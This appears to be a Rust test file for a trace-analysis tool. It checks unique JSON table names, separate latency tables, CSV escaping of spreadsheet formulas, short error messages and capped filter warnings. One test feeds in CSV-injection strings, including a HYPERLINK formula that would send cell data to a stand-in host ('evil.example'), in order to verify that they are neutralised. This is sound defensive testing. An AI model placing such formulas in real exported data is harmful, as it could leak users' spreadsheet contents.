//! Tables in the forms for programs: names are unique, texts are no formulas, messages are short.

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;
use std::time::Duration;

use crate::support::{self, Run};

/// The bundled kernel trace.
const KERNEL: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../traces/kernel");

fn lttv(args: &[&str], trace: &Path) -> Run {
    support::run(&support::lttv(), args, Some(trace), Duration::from_secs(60))
}

/// A member that occurs twice is lost by parsers, so the text is read.
#[test]
fn each_table_has_a_name_of_its_own_in_json() {
    for command in ["latency", "counters", "stats", "usage", "irq", "disk", "wait", "calls", "info"]
    {
        let run = lttv(&[command, "--format=json"], KERNEL.as_ref());
        let text = String::from_utf8(run.stdout).expect("UTF-8");
        let members = text.lines().filter(|line| line.starts_with("  \""));
        let mut names = BTreeSet::new();
        for line in members {
            assert!(names.insert(line.split('"').nth(1)), "{command}: {line}");
        }
    }
}

#[test]
fn opened_files_and_what_has_not_ended_are_two_tables() {
    let of = |table: &str| {
        let table = format!("--table={table}");
        let run = lttv(&["latency", "--format=csv", &table], KERNEL.as_ref());
        assert_eq!(run.status, Some(0), "{}", run.stderr);
        String::from_utf8(run.stdout).expect("UTF-8").lines().next().map(str::to_owned)
    };
    assert!(of("open").is_some_and(|head| head.starts_with("subject,count")), "{:?}", of("open"));
    assert!(of("not_ended").is_some_and(|head| head.starts_with("family,age_ns")));
}

/// Writes a trace with one text in each event.
fn texts(folder: &Path, texts: &[&str]) {
    let metadata = "/* CTF 1.8 */\ntrace { major = 1; minor = 8; byte_order = le; };\n\
                    typealias integer { size = 8; } := u8;\nstream { };\n\
                    event { name = \"=HYPERLINK(1)\"; fields := struct { string s; }; };\n";
    fs::write(folder.join("metadata"), metadata).expect("a folder");
    let bytes: Vec<u8> = texts.iter().flat_map(|text| text.bytes().chain([0])).collect();
    fs::write(folder.join("s"), bytes).expect("a folder");
}

#[test]
fn names_and_texts_of_traces_are_no_formulas_in_csv() {
    let folder = tempfile::tempdir().expect("a folder");
    let hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1\t0", "@SUM(1)", "-1+1", "-bash"];
    texts(folder.path(), &hostile);
    let run = lttv(&["dump", "--format=csv", "--columns=name,s"], folder.path());
    let text = String::from_utf8(run.stdout).expect("UTF-8");
    assert_eq!(text.lines().count(), 1 + hostile.len(), "{text}");
    for line in text.lines().skip(1) {
        assert!(line.starts_with("'=HYPERLINK(1),"), "{line}");
        let cell = line.split_once(',').map(|(_, cell)| cell.trim_start_matches('"'));
        assert!(cell.is_some_and(|cell| cell.starts_with('\'')), "{line}");
    }
    // Numbers, also negative ones, stay numbers.
    texts(folder.path(), &["-1", "+2.5", "3"]);
    let run = lttv(&["dump", "--format=csv", "--columns=s"], folder.path());
    assert_eq!(String::from_utf8(run.stdout).expect("UTF-8"), "s\n-1\n+2.5\n3\n");
}

#[test]
fn messages_about_long_paths_are_short() {
    let folder = tempfile::tempdir().expect("a folder");
    let path = vec!["n"; 100_000].join(".");
    let metadata = format!(
        "/* CTF 1.8 */ trace {{ major = 1; minor = 8; byte_order = le; }}; stream {{ }}; \
         event {{ name = e; fields := struct {{ integer {{ size = 8; }} n; \
         integer {{ size = 8; }} x[{path}]; }}; }};"
    );
    fs::write(folder.path().join("metadata"), metadata).expect("a folder");
    let run = lttv(&["dump"], folder.path());
    assert_eq!(run.status, Some(1));
    assert!(run.stderr.contains("metadata:1:") && run.stderr.len() < 2000, "{}", run.stderr.len());
}

#[test]
fn a_note_that_holds_for_many_parts_of_a_filter_is_repeated_three_times() {
    let parts: Vec<String> = (0..100).map(|number| format!("name == \"s{number}\"")).collect();
    let run = lttv(&["dump", "--count", "-e", &parts.join(" || ")], KERNEL.as_ref());
    assert_eq!(run.stderr.matches("this part is never true").count(), 3, "{}", run.stderr);
    assert!(run.stderr.contains("this part is never true, and 97 more parts"), "{}", run.stderr);
}
